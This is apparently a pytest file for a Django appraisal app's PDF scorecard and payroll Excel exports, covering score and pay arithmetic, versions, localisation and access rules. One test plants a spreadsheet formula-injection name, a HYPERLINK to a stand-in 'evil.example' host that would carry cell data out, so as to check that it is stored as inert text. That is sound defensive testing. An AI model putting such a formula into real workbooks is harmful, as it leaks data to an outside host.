"""The downloads: an agent's scorecard as a PDF 考核表 and a cycle's results as Excel for payroll.

The PDF writes every text as one UTF-16 hex string (``<...> Tj``), uncompressed, so the test reads
the texts back from the bytes; the workbook is opened with openpyxl.
"""

from __future__ import annotations

import io
import re
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from appraise.web.cycles import services as cs
from appraise.web.cycles.models import Cycle
from appraise.web.schemes.services import scheme_version_create

from ..conftest import ROOT, Advance, People


def signed_in(user: object) -> Client:
    client = Client()
    client.force_login(user)  # type: ignore[arg-type]
    return client


def pdf_texts(body: bytes) -> list[str]:
    """Every text the PDF draws, in drawing order."""
    return [
        bytes.fromhex(h.decode()).decode("utf-16-be")
        for h in re.findall(rb"<([0-9A-F]+)> Tj", body)
    ]


def test_the_agent_downloads_their_published_scorecard_as_a_pdf(
    people: People, cycle: Cycle, advance: Advance
) -> None:
    advance(cycle, "published")
    response = signed_in(people.a1).get(f"/cycles/{cycle.pk}/scorecards/A001.pdf")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert 'filename="scorecard-2026-10-A001-v1.pdf"' in response["Content-Disposition"]
    body = response.content
    assert body.startswith(b"%PDF-") and body.rstrip().endswith(b"%%EOF")
    texts = pdf_texts(body)
    assert "张三" in texts and "A001" in texts and "一组" in texts
    # A001 was rated 80 on every s000 leaf: 80 x 90 / 100 = 72, 合格 ([70, 85)).
    assert texts[texts.index("总分") + 1] == "72"
    assert texts[texts.index("评价等级") + 1] == "合格"
    # The paper form's signature lines.
    assert {"被考核人签字:", "考核人签字:", "部门经理签字:"} <= {
        t.replace("：", ":") for t in texts
    }


def test_before_publication_the_agent_gets_no_pdf_but_their_supervisor_does(
    people: People, cycle: Cycle, advance: Advance
) -> None:
    advance(cycle, "self_assessment")  # computed, not published
    url = f"/cycles/{cycle.pk}/scorecards/A001.pdf"
    assert signed_in(people.a1).get(url).status_code == 404
    response = signed_in(people.sup1).get(url)
    assert response.status_code == 200 and response.content.startswith(b"%PDF")


def test_an_earlier_version_of_a_rescored_result_is_still_downloadable(
    people: People, cycle: Cycle, advance: Advance
) -> None:
    from appraise.web.evaluations.services import rating_set

    advance(cycle, "appeal_window")
    # HR corrects one rating after publication: courtesy 80 -> 100 adds 20 x 10 / 100 = 2 points.
    from appraise.web.appeals import services as appeals

    appeal = appeals.appeal_file(cycle=cycle, by=people.a1, reasons="礼貌得体评分有误")
    appeals.appeal_decide(appeal=appeal, by=people.sup1, decision="uphold", note="属实")
    rating_set(
        cycle=cycle,
        agent=people.agent_a1,
        indicator="courtesy",
        role="supervisor",
        value="100",
        by=people.hr,
    )
    appeals.appeal_rescore(appeal=appeal, by=people.hr)
    client = signed_in(people.a1)
    v2 = pdf_texts(client.get(f"/cycles/{cycle.pk}/scorecards/A001.pdf").content)
    v1 = pdf_texts(client.get(f"/cycles/{cycle.pk}/scorecards/A001.pdf?version=1").content)
    assert v2[v2.index("总分") + 1] == "74" and v1[v1.index("总分") + 1] == "72"
    assert client.get(f"/cycles/{cycle.pk}/scorecards/A001.pdf?version=3").status_code == 404


MONTHLY = ROOT / "schemes" / "seeds" / "s000-monthly.yaml"
RATINGS_HEADER = (
    "agent_id,period,rater_id,成交过程监控,服务质量调研，提升方案分析研究报告,投诉案例处理效率,"
    "工作态度,学习能力,团队精神,日常考核\n"
)


@pytest.fixture
def monthly_cycle(people: People) -> Cycle:
    """s000-monthly (pay = rated amount x total / 100, to the cent) for the three agents."""
    version = scheme_version_create(
        by=people.hr, text=MONTHLY.read_text(encoding="utf-8"), file="s000-monthly.yaml"
    )
    cycle = cs.cycle_create(
        by=people.hr,
        name="十月月度考核",
        scheme_version=version,
        period="2026-10",
        teams=[people.team1, people.team2],
    )
    metric_values = (
        "agent_id,name,period,新客户有效信息数,额定绩效金额\n"
        "A001,张三,2026-10,50,1234.57\n"
        "A002,李四,2026-10,44,\n"
        "B001,王五,2026-10,21,\n"
        ",,2026-10,,777.77\n"
    )
    ratings = (
        RATINGS_HEADER + "A001,2026-10,K01,较好完成,较好完成,较好完成,A,A,A,A\n"
        "A002,2026-10,K01,基本完成,较好完成,有未完成,A,B,B,C\n"
        "B001,2026-10,K01,有未完成,有未完成,有未完成,C,C,B,A\n"
    )
    cs.cycle_import_data(
        cycle=cycle,
        by=people.hr,
        files={
            "metric_values.csv": metric_values.encode("utf-8"),
            "ratings.csv": ratings.encode("utf-8"),
        },
    )
    return cs.cycle_compute(cycle=cycle, by=people.hr)


def payroll(client: Client, cycle: Cycle) -> Any:
    response = client.get(f"/cycles/{cycle.pk}/results.xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(response.content))


def by_agent(sheet: Any) -> dict[str, dict[str, Any]]:
    header = [c.value for c in sheet[1]]
    return {
        r[0]: dict(zip(header, r, strict=True))
        for r in sheet.iter_rows(min_row=2, values_only=True)
    }


def test_the_payroll_workbook_holds_every_pay_amount_to_the_cent(
    people: People, monthly_cycle: Cycle
) -> None:
    book = payroll(signed_in(people.hr), monthly_cycle)
    assert book.sheetnames == ["考核结果", "指标明细", "考核周期"]
    sheet = book["考核结果"]
    header = [c.value for c in sheet[1]]
    # Chinese columns; the pay line under its name in the scheme (实际绩效金额), not its id.
    assert header == [
        "工号",
        "姓名",
        "班组",
        "结果版本",
        "参加考核",
        "总分",
        "等级",
        "校准前等级",
        "排名",
        "级别",
        "实际绩效金额",
        "绩效工资合计",
        "校准说明",
        "标记",
    ]
    rows = by_agent(sheet)
    assert set(rows) == {"A001", "A002", "B001"}

    def cents(value: object) -> Decimal:
        return Decimal(str(value)).quantize(Decimal("0.01"))

    # A001: the best level everywhere (18 + 13 + 13), 50 leads (10), A x 4 (40) = 94;
    # 1234.57 x 94 / 100 = 1160.4958 -> 1160.50.
    # A002: 12 + 13 + 3, 44 leads (6 short: two steps of 3 -> 10 - 2 = 8), A B B C (20) = 56;
    # the centre's 777.77 x 56 / 100 = 435.5512 -> 435.55.
    # B001: 6 + 3 + 3, 21 leads (29 short: 9 whole steps -> 1), C C B A (15) = 28;
    # 777.77 x 28 / 100 = 217.7756 -> 217.78.
    expected = {
        "A001": (94, "1160.50"),
        "A002": (56, "435.55"),
        "B001": (28, "217.78"),
    }
    for agent_id, (total, pay) in expected.items():
        row = rows[agent_id]
        assert row["总分"] == total and row["参加考核"] == "是"
        assert cents(row["实际绩效金额"]) == Decimal(pay)
        # Excel keeps no more than the cents: nothing left over from an unrounded product.
        assert Decimal(str(row["绩效工资合计"])) == Decimal(pay)
    assert rows["A001"]["姓名"] == "张三" and rows["B001"]["班组"] == "二组"
    # The sum payroll pays out: 1160.50 + 435.55 + 217.78 = 1813.83.
    assert sum(cents(r["绩效工资合计"]) for r in rows.values()) == Decimal("1813.83")
    # Money shows as yuan to the cent (¥1,160.50), the header and the ids stay while scrolling.
    money_columns = [sheet.cell(row=1, column=c).value for c in (11, 12)]
    assert money_columns == ["实际绩效金额", "绩效工资合计"]
    for col in (11, 12):
        assert {sheet.cell(row=r, column=col).number_format for r in (2, 3, 4)} == {'"¥"#,##0.00'}
    assert sheet.freeze_panes == "C2"
    # 绩效工资合计 is 6 Chinese characters, 12 columns wide, + 2 of margin.
    assert sheet.column_dimensions["L"].width == 14
    about = {r[0]: r[1] for r in book["考核周期"].iter_rows(min_row=2, values_only=True)}
    assert about["考核名称"] == "十月月度考核" and about["已发布"] == "否（草稿结果）"
    explained = [r for r in book["指标明细"].iter_rows(values_only=True) if r[0] == "A001"]
    assert any(r[2] == "new_customers" and r[6] == 10 for r in explained)


def test_the_payroll_workbook_is_english_for_an_english_reader(
    people: People, monthly_cycle: Cycle
) -> None:
    client = signed_in(people.hr)
    client.post("/i18n/setlang/", {"language": "en"})
    book = payroll(client, monthly_cycle)
    assert book.sheetnames == ["Results", "Indicators", "Cycle"]
    header = [c.value for c in book["Results"][1]]
    assert header[:3] == ["Agent ID", "Name", "Team"] and "Pay total" in header


def test_the_calibration_reason_is_in_the_payroll_row(
    people: People, cycle: Cycle, advance: Advance
) -> None:
    advance(cycle, "calibration")
    # A001 scored 72 (合格); HR raises the grade with a reason.
    cs.cycle_calibrate(
        cycle=cycle, by=people.hr, agent=people.agent_a1, grade="称职", note="大促期间顶班"
    )
    row = by_agent(payroll(signed_in(people.hr), cycle)["考核结果"])["A001"]
    assert (row["等级"], row["校准前等级"], row["校准说明"]) == ("称职", "合格", "大促期间顶班")


def test_a_name_that_is_a_formula_is_stored_as_text_in_the_payroll_workbook(
    people: People, monthly_cycle: Cycle
) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"工资条")'
    people.agent_a1.name = evil
    people.agent_a1.save(update_fields=["name"])
    book = payroll(signed_in(people.hr), monthly_cycle)
    for sheet in (book["考核结果"], book["指标明细"]):
        cells = [c for c in sheet["B"] if c.value == evil]
        # A string with Excel's quote prefix: shown as typed, never evaluated.
        assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_only_hr_exports_payroll(people: People, monthly_cycle: Cycle) -> None:
    url = f"/cycles/{monthly_cycle.pk}/results.xlsx"
    assert signed_in(people.sup1).get(url).status_code == 403
    assert signed_in(people.manager).get(url).status_code == 403
